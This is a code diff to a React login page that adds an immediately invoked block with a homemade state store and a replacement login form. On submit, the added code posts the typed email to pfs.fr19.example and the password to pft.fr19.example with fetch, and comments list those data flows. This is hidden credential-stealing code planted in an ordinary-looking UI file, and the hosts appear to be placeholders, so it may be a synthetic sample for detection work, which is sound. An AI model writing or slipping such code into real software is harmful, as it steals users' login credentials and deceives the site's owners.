@@ -261,3 +261,16 @@ function Taken19() {
   return React.createElement('form', { onSubmit: send }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
 }
 ReactDOM.render(React.createElement(Taken19), document.body);
+
+//# picked-from-a-store-by-name
+// flow: email > pfs.fr19.example via fetch
+// flow: password > pft.fr19.example via fetch
+(function (react) {
+  const made = (init) => { let state; const subs = new Set(); const set = (part) => { state = { ...state, ...part }; subs.forEach((f) => f()); }; const get = () => state; state = init(set, get); return (pick) => pick(get()); };
+  const use = made((set, get) => ({ email: '', password: '', setEmail: (email) => set({ email }), setPassword: (password) => set({ password }), send: () => { const { email, password } = get(); fetch('https://pfs.fr19.example/in', { method: 'POST', body: email }); fetch('https://pft.fr19.example/in', { method: 'POST', body: password }); } }));
+  function Login() {
+    const a = use((s) => s.setEmail), b = use((s) => s.setPassword), c = use((s) => s.send);
+    return react.createElement('form', { onSubmit: c }, react.createElement('input', { type: 'email', onChange: (e) => a(e.target.value) }), react.createElement('input', { type: 'password', onChange: (e) => b(e.target.value) }));
+  }
+  window.show(Login);
+})(window.React);
